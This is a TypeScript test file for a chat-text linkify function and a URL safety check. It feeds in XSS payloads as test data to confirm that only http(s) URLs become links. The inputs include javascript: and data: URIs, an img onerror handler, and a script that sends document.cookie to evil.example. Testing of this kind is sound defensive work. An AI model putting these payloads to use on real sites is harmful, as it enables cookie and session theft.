import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linkify, safeHttpUrl } from "./linkify.ts";

describe("linkify", () => {
  it("leaves text without links as one text segment", () => {
    expect(linkify("Hei, missä tilaukseni on?")).toEqual([{ type: "text", text: "Hei, missä tilaukseni on?" }]);
  });

  it("turns http and https URLs into links, keeping the text around them", () => {
    expect(linkify("Katso https://www.k-rauta.fi/toimitus ja http://k-rauta.fi")).toEqual([
      { type: "text", text: "Katso " },
      { type: "link", text: "https://www.k-rauta.fi/toimitus", href: "https://www.k-rauta.fi/toimitus" },
      { type: "text", text: " ja " },
      { type: "link", text: "http://k-rauta.fi", href: "http://k-rauta.fi/" },
    ]);
  });

  it.each([
    ["Lue https://k-rauta.fi/a.", "https://k-rauta.fi/a", "."],
    ["(katso https://k-rauta.fi/a)", "https://k-rauta.fi/a", ")"],
    ["https://en.wikipedia.org/wiki/Saw_(tool)", "https://en.wikipedia.org/wiki/Saw_(tool)", ""],
    ["Onko https://k-rauta.fi/?q=1&x=2?", "https://k-rauta.fi/?q=1&x=2", "?"],
  ])("ends the link where the prose begins: %s", (text, link, after) => {
    const segments = linkify(text);
    expect(segments.find((segment) => segment.type === "link")?.text).toBe(link);
    expect(segments.at(-1)?.type === "text" ? segments.at(-1)?.text : "").toBe(after);
  });

  it.each([
    "javascript:alert(document.cookie)",
    "JAVASCRIPT:alert(1)",
    "<a href=\"javascript:alert(1)\">klikkaa</a>",
    "<img src=x onerror=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
  ])("never makes a link out of anything but http(s): %s", (payload) => {
    for (const segment of linkify(payload)) {
      if (segment.type === "link") expect(segment.href).toMatch(/^https?:\/\/[^<>"'`\s]+$/);
    }
    expect(linkify(payload).map((segment) => segment.text).join("")).toBe(payload);
  });

  it("stops a link before markup, so it cannot carry an attribute or a tag", () => {
    const segments = linkify('https://k-rauta.fi/"><img src=x onerror=alert(1)>');
    expect(segments[0]).toEqual({ type: "link", text: "https://k-rauta.fi/", href: "https://k-rauta.fi/" });
    expect(segments[1]).toEqual({ type: "text", text: '"><img src=x onerror=alert(1)>' });
  });

  it("keeps every character of any text, and links only to http(s)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const segments = linkify(text);
        expect(segments.map((segment) => segment.text).join("")).toBe(text);
        for (const segment of segments) {
          if (segment.type === "link") expect(new URL(segment.href).protocol).toMatch(/^https?:$/);
        }
      }),
    );
  });
});

describe("safeHttpUrl", () => {
  it.each([
    ["https://k-rauta.fi/ohje", "https://k-rauta.fi/ohje"],
    ["javascript:alert(1)", null],
    [" javascript:alert(1)", null],
    ["/relative/path", null],
    [null, null],
    ["", null],
  ])("%s -> %s", (candidate, expected) => {
    expect(safeHttpUrl(candidate)).toBe(expected);
  });
});
